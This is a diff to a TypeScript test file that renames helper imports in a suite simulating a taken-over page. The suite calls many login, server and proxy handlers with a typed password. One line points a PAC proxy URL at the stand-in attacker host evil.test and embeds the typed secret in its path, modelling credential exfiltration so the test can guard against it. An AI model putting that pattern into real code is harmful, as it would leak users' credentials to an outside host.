@@ -8,7 +8,7 @@ import { RunOptions } from '../../preload/contract/report.ts';
 import { startForeignServer } from '../support/foreign-server.ts';
 import { fileOf, openAndTake } from '../support/servers-file.ts';
 import { makeTemporaryFolder } from '../support/temporary-folder.ts';
-import { ana, entered, nothing, through, withPerson } from '../support/with-person.ts';
+import { anaForm, entered, defaultConnection, through, withPerson } from '../support/with-person.ts';
 
 const typed = 'what-the-person-typed';
 
@@ -43,13 +43,13 @@ describe('a page that was taken over', () => {
     await writeFile(file.chosen, fileOf({ name: 'Imported', address }));
     const { servers, session, interfaces, checks, mocks } = main.handlers;
     const own = entered(main, 'foreign', {});
-    const pac = { ...nothing, proxy: { mode: 'pac', url: `http://evil.test:${port}/${typed}.pac` } } as const;
+    const pac = { ...defaultConnection, proxy: { mode: 'pac', url: `http://evil.test:${port}/${typed}.pac` } } as const;
     const proxies = [through(port), pac];
 
     await openAndTake(main);
     const imported = main.config.get().servers.find(({ name }) => name === 'Imported')!;
-    const account = { is: 'typed', email: ana.email, password: typed } as const;
-    const logIn = () => session.login({ ...ana, password: typed });
+    const account = { is: 'typed', email: anaForm.email, password: typed } as const;
+    const logIn = () => session.login({ ...anaForm, password: typed });
     const calls: (() => unknown)[] = [
       () => servers.test({ address }),
       () => servers.test({ address, id: 'foreign' }),
@@ -60,7 +60,7 @@ describe('a page that was taken over', () => {
       ...proxies.map((enteredConnection) => () => interfaces.runTrial({ ...own, enteredConnection, account })),
       () => servers.chooseAddress({ address }),
       logIn,
-      () => servers.create({ ...own, address, enteredConnection: nothing }),
+      () => servers.create({ ...own, address, enteredConnection: defaultConnection }),
       () => servers.edit({ ...own, address }),
       logIn,
       ...proxies.map((enteredConnection) => () => servers.edit({ ...own, enteredConnection })),
@@ -71,7 +71,7 @@ describe('a page that was taken over', () => {
       () => servers.duplicate({ id: imported.id }),
       () => servers.choose({ id: imported.id }),
       logIn,
-      () => session.register({ ...ana, path: 'registro' }),
+      () => session.register({ ...anaForm, path: 'registro' }),
     ];
     for (const call of calls) {
       await call();
